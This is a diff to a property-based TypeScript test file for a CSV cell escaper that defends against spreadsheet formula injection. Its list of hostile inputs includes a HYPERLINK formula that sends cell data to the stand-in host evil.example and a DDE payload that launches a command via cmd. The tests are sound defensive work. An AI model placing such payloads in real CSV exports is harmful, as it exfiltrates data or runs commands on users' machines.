@@ -1,7 +1,7 @@
 import fc from 'fast-check'
 import { expect, it } from 'vitest'
-import { csvCell } from '../../../src/api/report/csv.ts'
-import { readCsv } from './read-csv.ts'
+import { csvCell } from '../../../src/domain/words/csv-cell.ts'
+import { readCsv } from '../../api/report/read-csv.ts'
 
 /** What spreadsheets run: OWASP, CSV injection. */
 const RUNS = /^\s*[=+\-@\t\r＝＋－＠]/
@@ -10,7 +10,18 @@ const RUNS = /^\s*[=+\-@\t\r＝＋－＠]/
 const hostile = fc.oneof(
   fc.string({ unit: 'binary' }),
   fc.stringMatching(/^[=+\-@;,|"'\t\r\n ＝＋－＠a-z()!]{0,12}$/),
-  fc.constantFrom('=HYPERLINK("http://evil.example?"&A1,"ok")', '+1-1', '@SUM(A1)', ' =1', 'a";=cmd|"/c calc"!A1', '\t=1', 'x;=1', 'x, @y'),
+  fc.constantFrom(
+    '=HYPERLINK("http://evil.example?"&A1,"ok")',
+    '+1-1',
+    '@SUM(A1)',
+    ' =1',
+    'a";=cmd|"/c calc"!A1',
+    '\t=1',
+    'x;=1',
+    'x, @y',
+    'x\n=1',
+    'x;"=1',
+  ),
 )
 
 it('a cell is what it was given, but for an apostrophe before what a spreadsheet would run', () => {
@@ -40,4 +51,12 @@ it('what is no formula stays as it is', () => {
   expect(csvCell('web 0.91, wanted result[0] >= 0.95 (3 of 5 failed, failureLimit 2)')).toBe(
     '"web 0.91, wanted result[0] >= 0.95 (3 of 5 failed, failureLimit 2)"',
   )
+})
+
+it.each([
+  ['x\n=1', `"x\n'=1"`],
+  ['x\r\n @A1', `"x\r\n '@A1"`],
+  ['x;"=1', `"x;""'=1"`],
+])('after a line break or a quote, which another locale may not take for a part of the cell, %j is written %j', (value, cell) => {
+  expect(csvCell(value)).toBe(cell)
 })
